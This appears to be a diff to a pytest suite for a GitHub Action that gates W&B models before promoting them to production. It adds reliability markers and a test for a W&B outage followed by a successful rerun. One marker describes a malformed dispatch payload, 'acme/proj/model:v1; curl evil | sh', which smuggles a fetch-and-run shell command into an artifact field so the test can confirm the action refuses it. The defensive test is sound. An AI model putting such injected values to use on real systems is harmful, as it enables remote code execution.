@@ -18,6 +18,7 @@ import pytest
 import torch
 
 from tests import helpers
+from tests.fakes.faults import server_error
 from tests.fakes.github import FakeGitHub
 from tests.fakes.wandb_server import FakeWandb
 from tests.fixtures.model_zoo import SmallCNN
@@ -149,6 +150,10 @@ def run_action(tmp_path: Path, fake_wandb: FakeWandb, fake_github: FakeGitHub) -
     return start
 
 
+@pytest.mark.reliability(
+    "race", "model-gate with `on-pass: promote` rerun for the same dispatch",
+    "exit 0 both times; `production` linked once; the rerun says it already holds `production`"
+)
 def test_pass_with_on_pass_promote__links_production_once_and_rerun_does_nothing(
     fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
 ) -> None:
@@ -180,6 +185,10 @@ def test_pass_with_on_pass_promote__links_production_once_and_rerun_does_nothing
     assert second.report()["baseline"] is None  # production is the candidate itself: nothing to compare
 
 
+@pytest.mark.reliability(
+    "exit", "a model that fails `max-latency-ms` with `on-pass: promote`",
+    "exit 1; nothing linked, candidate tagged `gate-failed`; the report, outputs and summary still published"
+)
 def test_failed_gate__links_nothing_tags_the_candidate_fails_the_step_and_still_reports(
     fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
 ) -> None:
@@ -275,6 +284,11 @@ def test_production_baseline__ratios_and_relative_gates_against_the_production_v
     assert f"production (`{production}`)" in result.summary
 
 
+@pytest.mark.reliability(
+    "input", "repository_dispatch payload `acme/proj/model:v1; curl evil | sh`",
+    "exit 2: `::error` names `client_payload.artifact_version_string` and shows the expected payload; W&B never "
+    "asked"
+)
 def test_malformed_payload__exits_2_with_the_expected_payload_in_the_error(
     fake_wandb: FakeWandb, workspace: Path, run_action: RunAction
 ) -> None:
@@ -290,6 +304,11 @@ def test_malformed_payload__exits_2_with_the_expected_payload_in_the_error(
     assert fake_wandb.operations == []  # refused before W&B was asked anything
 
 
+@pytest.mark.reliability(
+    "data", "staged W&B model that is a full pickle",
+    "exit 2: “Refused to unpickle” naming the version; `trust-pickle: true` in the log and summary; nothing "
+    "linked"
+)
 def test_pickled_model__refused_with_a_pointer_to_trust_pickle(
     fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
 ) -> None:
@@ -302,3 +321,30 @@ def test_pickled_model__refused_with_a_pointer_to_trust_pickle(
     assert "Refused to unpickle" in error and staging.source in error
     assert "trust-pickle: true" in result.stdout and "trust-pickle: true" in result.summary
     assert fake_wandb.link_operations == []
+
+
+@pytest.mark.reliability(
+    "wire", "W&B answers 502 to every link request during `on-pass: promote`; the job is rerun",
+    "exit 3 naming `Linking '<candidate> -> <collection>' on W&B`; the report is still published; `production` "
+    "untouched; the rerun (W&B healthy) exits 0 and links once"
+)
+def test_wandb_failing_during_promotion__exit_3_then_rerun_links_once(
+    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
+) -> None:
+    staging = staged(fake_wandb, models.file(models.good))
+    event = dispatch_event(staging)
+    fake_wandb.inject("LinkArtifact", *[server_error(502)] * 50)
+
+    failed = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
+
+    assert failed.returncode == 3, failed.stdout + failed.stderr
+    assert f"Linking '{staging.source} -> {REGISTRY}' on W&B" in failed.stdout + failed.stderr
+    assert failed.report()["passed"] is True  # measured and published before the promotion failed
+    assert "production" not in fake_wandb.alias_map(REGISTRY)
+    fake_wandb.faults.clear()
+
+    rerun = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
+
+    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
+    assert fake_wandb.alias_map(REGISTRY)["production"] == staging.source
+    assert [op.aliases for op in fake_wandb.link_operations] == [("production",)]
